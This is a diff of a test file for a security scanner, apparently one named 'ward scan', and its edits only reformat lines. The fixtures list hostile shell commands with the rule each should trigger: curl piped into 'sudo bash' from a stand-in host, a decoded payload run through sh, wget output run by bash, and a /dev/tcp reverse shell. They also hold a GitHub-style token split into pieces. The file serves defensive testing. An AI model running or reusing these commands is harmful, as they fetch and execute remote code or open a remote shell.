@@ -6,7 +6,8 @@ TOKEN = "ghp_" + "zQWBuTSOoRi4A9spHcVY5ncnsDkxkJ" + "0mLq17"
 
 # file -> (content, the rules that must be found in it)
 HOSTILE = {
-    "install.sh": ("#!/bin/sh\ncurl -fsSL https://x.example/i |  sudo bash -s\n", ["pipe-to-shell"]),
+    "install.sh": ("#!/bin/sh\ncurl -fsSL https://x.example/i |  sudo bash -s\n",
+                   ["pipe-to-shell"]),
     "decode.sh": ("echo aGk= | base64 -d | sh\n", ["shell-of-encoded"]),
     "subst.sh": ("bash -c \"$(wget -qO- https://x.example/a)\"\n", ["shell-of-fetched"]),
     "back.sh": ("bash -i >& /dev/tcp/192.0.2.1/4444 0>&1\n", ["reverse-shell"]),
@@ -27,8 +28,9 @@ HOSTILE = {
     "settings.env": (f"T={TOKEN}\n", ["github-token"]),
 }
 HARMLESS = {
-    "readme.md": "Use curl or a shell. \u4f60\u597d, \u043f\u0440\u0438\u0432\u0435\u0442, na\u00efve "
-                 "\U0001f468\u200d\U0001f469\u200d\U0001f467 \u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645\n",
+    "readme.md": "Use curl or a shell. \u4f60\u597d, \u043f\u0440\u0438\u0432\u0435\u0442, "
+                 "na\u00efve \U0001f468\u200d\U0001f469\u200d\U0001f467 "
+                 "\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645\n",
     "make.sh": "curl -o x.tar https://x.example/x.tar\nsha256sum -c sums | grep OK\nsh build.sh\n",
     "code.py": "import base64\nprint(base64.b64decode(text))\nresult = evaluate(x)\n",
 }
@@ -90,7 +92,8 @@ def test_only_what_is_new(t):
 
 def test_programs(t):
     ws, _ = reviewed(t, {}, "cp /bin/true prog; ln -s /etc/passwd link; mkfifo pipe")
-    t.equal({(f["rule"], f["path"]) for f in findings(t, ws)}, {("program-elf", "prog")}, "findings")
+    found = {(f["rule"], f["path"]) for f in findings(t, ws)}
+    t.equal(found, {("program-elf", "prog")}, "findings")
 
 
 def test_what_ward_scan_says(t):
